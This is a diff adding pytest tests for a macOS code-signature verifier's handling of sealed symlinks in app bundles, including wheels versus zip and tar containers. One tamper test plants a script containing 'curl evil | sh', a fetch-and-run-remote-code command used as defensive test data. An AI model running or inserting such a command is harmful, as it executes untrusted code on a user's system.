@@ -219,3 +219,86 @@ def test_known_digests_and_facts_are_reused(
     (app / "Contents" / "Info.plist").write_bytes(b"<plist/>")
     r = bundle.check_bundle(str(tmp_path), app.name, ctx, known=known)
     assert any("info-plist does not match" in a.message for a in r.anomalies)
+
+
+@pytest.fixture(scope="module")
+def linked_app(
+    mac_scenario: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
+) -> tuple[Path, Path, AnalysisContext]:
+    """vendor-clean with a sealed symlink in Contents (``bin/app -> ../MacOS/Acme``),
+    re-sealed by a fresh identity, and a context that trusts it."""
+    root = tmp_path_factory.mktemp("linked")
+    app = root / mac_scenario["vendor-clean"].name
+    shutil.copytree(mac_scenario["vendor-clean"], app, symlinks=True)
+    (app / "Contents" / "bin").mkdir()
+    (app / "Contents" / "bin" / "app").symlink_to("../MacOS/Acme")
+    ident = ma.vendor_identity()
+    ma.seal_bundle(app, ident, "com.acme.app")
+    pem = root.parent / "linked-root.pem"
+    pem.write_bytes(ident.root_pem())
+    return root, app, AnalysisContext(trust=TrustConfig(extra_pem=(str(pem),)))
+
+
+Linked = tuple[Path, Path, AnalysisContext]
+
+
+def _fresh(linked_app: Linked, tmp_path: Path) -> tuple[Path, Path]:
+    root = tmp_path / "root"
+    app = _copy(linked_app[1], root)
+    return root, app
+
+
+def test_sealed_symlink_verifies(linked_app: Linked) -> None:
+    root, app, ctx = linked_app
+    seal = plistlib.loads((app / "Contents/_CodeSignature/CodeResources").read_bytes())
+    assert seal["files2"]["bin/app"] == {"symlink": "../MacOS/Acme"}
+    r = bundle.check_bundle(str(root), app.name, ctx)
+    assert r.valid is True and r.anomalies == ()
+
+
+def test_sealed_symlink_absent_from_a_linkless_container_is_a_note(
+    linked_app: Linked, tmp_path: Path
+) -> None:
+    """A wheel cannot hold the link: its absence is a note, not an invalid signature."""
+    from verifier.model import Severity
+
+    ctx = linked_app[2]
+    root, app = _fresh(linked_app, tmp_path)
+    (app / "Contents" / "bin" / "app").unlink()
+    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
+    assert r.valid is True
+    (a,) = r.anomalies
+    assert a.rule == "invalid-signature" and a.severity == Severity.INFO
+    assert a.evidence["sealed_symlink"] == "bin/app"
+    assert a.evidence["path"] == f"{app.name}/Contents/_CodeSignature/CodeResources"
+    assert a.region_sha256 == hashlib.sha256(b"bin/app\0../MacOS/Acme").hexdigest()
+    # in a container that holds links (a folder, a tar, a zip) the same absence is invalid
+    r = bundle.check_bundle(str(root), app.name, ctx, links=True)
+    assert r.valid is False
+    (b,) = r.anomalies
+    assert b.severity is None and "is missing" in b.message
+
+
+def test_sealed_symlink_replaced_or_retargeted_stays_invalid(
+    linked_app: Linked, tmp_path: Path
+) -> None:
+    ctx = linked_app[2]
+    root, app = _fresh(linked_app, tmp_path)
+    link = app / "Contents" / "bin" / "app"
+    link.unlink()
+    link.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")  # a file where the seal says link
+    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
+    assert r.valid is False and "is not a link" in r.anomalies[0].message
+    link.unlink()
+    link.symlink_to("../Resources/app.asar")  # a link with another target
+    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
+    assert r.valid is False and "changed" in r.anomalies[0].message
+
+
+def test_linkless_containers() -> None:
+    from verifier.macos_checks import holds_links
+
+    assert holds_links(())
+    assert holds_links(("app.zip",)) and holds_links(("x.tar.gz", "inner.zip"))
+    assert not holds_links(("cmake-3.14.4-py3-none-macosx_10_6_x86_64.whl",))
+    assert not holds_links(("outer.zip", "pkg.WHL"))
